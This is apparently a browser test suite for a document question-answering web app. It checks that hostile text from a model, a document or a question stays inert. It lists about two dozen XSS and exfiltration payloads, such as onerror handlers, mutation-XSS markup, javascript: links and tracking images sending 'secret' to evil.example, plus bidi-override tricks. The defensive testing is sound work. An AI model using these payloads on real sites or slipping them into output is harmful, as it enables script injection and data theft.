import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type LedModel, startLedModel } from '../fakes/led-model.ts';
import { chromiumPath } from './browser.ts';
import { openPageWorld, type PageWorld, untroubled, type Visited } from './page-world.ts';

let model: LedModel;
let world: PageWorld;
let visited: Visited;

const evil = 'https://evil.example/p?q=secret';

/** What a model may be made to write, or a document may hold: none of it may run, or be fetched. */
const attacks: Readonly<Record<string, string>> = {
  script: '<script>globalThis.owned = 1</script>',
  'script by a closed comment': '<!--><script>globalThis.owned = 1</script-->',
  'event handler': '<img src=x onerror="globalThis.owned = 1">',
  'event handler without a click': '<details open ontoggle="globalThis.owned = 1">x</details>',
  'focus handler': '<input autofocus onfocus="globalThis.owned = 1">',
  SVG: '<svg onload="globalThis.owned = 1"><image href="https://evil.example/s" /></svg>',
  MathML: `<math><mtext><table><mglyph><style><img src=x onerror="globalThis.owned = 1">`,
  'markup that changes when read twice':
    '<noscript><p title="</noscript><img src=x onerror=globalThis.owned=1>"></noscript>',
  frame: `<iframe src="${evil}" srcdoc="<script>parent.owned = 1</script>"></iframe>`,
  object: `<object data="${evil}"></object><embed src="${evil}">`,
  form: `<form action="${evil}"><button autofocus>Sign in</button></form>`,
  'base and refresh': `<base href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}">`,
  'style sheet': `<link rel="stylesheet" href="${evil}"><style>@import url(${evil});</style>`,
  'style attribute': `<p style="background: url(${evil})">x</p>`,
  'media element': `<video poster="${evil}" src="${evil}" autoplay></video><audio src="${evil}">`,
  prefetch: `<link rel="dns-prefetch" href="//secret.evil.example"><a href="${evil}" ping="${evil}">x</a>`,
  'Markdown image': `![pixel](${evil})`,
  'reference-style image': `![pixel][track]\n\n[track]: ${evil}`,
  'image in a link': `[![pixel](${evil})](${evil})`,
  autolink: `<${evil}> and ${evil}`,
  'javascript link': '[see](javascript:globalThis.owned=1) <javascript:globalThis.owned=1>',
  'disguised javascript link':
    '[see](jav&#x09;ascript:globalThis.owned=1) [see](JaVaScRiPt:owned=1)',
  'data link': '[see](data:text/html,<script>opener.owned=1</script>)',
  'citation that is a link by reference': `[1][2]\n\n[1]: ${evil}\n[2]: javascript:globalThis.owned=1`,
  'code that closes itself':
    '```html\n</code></pre><img src=x onerror="globalThis.owned = 1">\n```',
  table: `| a |\n| - |\n| <img src=x onerror="globalThis.owned=1"> |`,
  direction: 'read \u202egnp.exe\u202c and \u2066this\u2069 and \u{e0041}\u{e0042}',
};

describe.skipIf(chromiumPath === null)('hostile text', () => {
  beforeAll(async () => {
    model = await startLedModel();
    const lines = Object.entries(attacks).map(([name, text]) => `The ${name}: ${text}`);
    world = await openPageWorld(
      {
        'lantern.md': [
          '---',
          `title: '<img src="${evil}" onerror="globalThis.owned = 1">'`,
          '---',
          '# Lantern <script>globalThis.owned = 1</script>',
          'The lantern burns nine hours.',
          ...lines,
        ].join('\n\n'),
      },
      { GECKO_GENERATOR_KIND: 'openai', GECKO_GENERATOR_URL: model.url, GECKO_MODEL: 'led' },
    );
  });
  afterAll(async () => {
    await world?.close();
    await model?.close();
  });
  afterEach(() => visited?.context.close());

  const open = async () => {
    visited = await world.visit();
    await visited.page.evaluate(
      "globalThis.violations = []; addEventListener('securitypolicyviolation', (event) => violations.push(event.blockedURI))",
    );
  };
  /** That nothing ran, nothing left, and the policy of the page was never even needed. */
  const expectNothingHappened = async () => {
    const { page, trouble } = visited;
    expect(trouble).toEqual(untroubled);
    expect(await page.evaluate('[globalThis.owned ?? null, violations]')).toEqual([null, []]);
    const dangerous =
      'iframe, script, object, embed, form:not(.composer, .dialog *), video, audio, base, style, [style], link, meta, [onerror], [onload]';
    expect(await page.locator(`main :is(${dangerous})`).count()).toBe(0);
    expect(await page.locator('main img, .answer-text svg, .panel-body svg').count()).toBe(0);
    const links = await page.locator('.answer-text a').evaluateAll((all) =>
      all.map((one) => ({
        protocol: one.getAttribute('href')?.split(':')[0],
        rel: one.getAttribute('rel'),
        target: one.getAttribute('target'),
        isShown: one.textContent?.includes('(evil.example/'),
      })),
    );
    const safe = { rel: 'noopener noreferrer nofollow', target: '_blank', isShown: true };
    expect(links).toEqual(links.map(() => ({ protocol: 'https', ...safe })));
  };

  it.each(Object.entries(attacks))('of a model stays text: %s', async (_, attack) => {
    await open();
    model.always(`It burns nine hours [1].\n\n${attack}\n\nThe end of it [1].`);
    await visited.askToEnd('How long does the lantern burn?');
    await visited.page.locator('.answer-text').getByText('The end of it').first().waitFor();
    await expectNothingHappened();
  });

  it('of a document stays text, in the answer, the source and the panel', async () => {
    await open();
    const { page } = visited;
    model.always('It burns nine hours [1].');
    await visited.askToEnd('How long does the lantern burn?');
    await page.locator('.cite').first().click();
    await page.locator('.panel mark').waitFor();
    expect(await page.locator('.panel h2').textContent()).toContain('<img src=');
    expect(await page.locator('.panel-body').textContent()).toContain('onerror=');
    expect(await page.locator('main').textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    await expectNothingHappened();
  });

  it('of a question stays text, also as the name of its conversation and in its address', async () => {
    await open();
    const { page } = visited;
    model.always('It burns nine hours [1].');
    await visited.askToEnd('<img src=x onerror="globalThis.owned=1"> lantern \u202e burns?');
    await page.reload();
    await page.locator('.turn h2').waitFor();
    expect(await page.locator('.asked').textContent()).toContain('<img src=x');
    const hostile = encodeURIComponent('"><img src=x onerror=globalThis.owned=1>');
    await page.goto(`${world.address}/c/nobody?document=${hostile}&span=0-9`);
    await page.locator('.panel').waitFor();
    expect(await page.evaluate('globalThis.owned ?? null')).toBeNull();
    expect(visited.trouble.stray).toEqual([]);
  });

  it('in a link is not even looked up: no name is resolved before somebody follows it', async () => {
    await open();
    const control = visited.page.locator('meta[http-equiv="x-dns-prefetch-control"]');
    expect(await control.getAttribute('content')).toBe('off');
  });
});
